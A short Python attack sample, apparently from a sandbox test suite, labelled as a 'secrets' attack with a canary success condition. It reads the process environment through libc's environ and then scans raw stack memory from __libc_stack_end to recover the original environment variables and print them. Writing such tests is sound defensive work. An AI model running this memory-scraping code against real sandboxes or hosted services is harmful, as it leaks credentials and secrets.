# /// attack
# category = "secrets"
# kind = "stdio"
# success = "canary:ENV"
# expected = ["wrong_answer", "sandbox_violation", "runtime_error", "output_limit_exceeded"]
# summary = "Walks up its own stack past the arguments, where the kernel put the first environment."
# ///

import ctypes
import sys

libc = ctypes.CDLL(None)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
index = 0
while environ and environ[index] is not None:
    print(environ[index])
    index += 1
address = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value or 0
for _ in range(256):
    size = 4096 - address % 4096
    block = ctypes.string_at(address, size)
    if b"=" in block:
        print(block.replace(b"\0", b"\n").decode("latin-1"))
        sys.stdout.flush()
    address += size
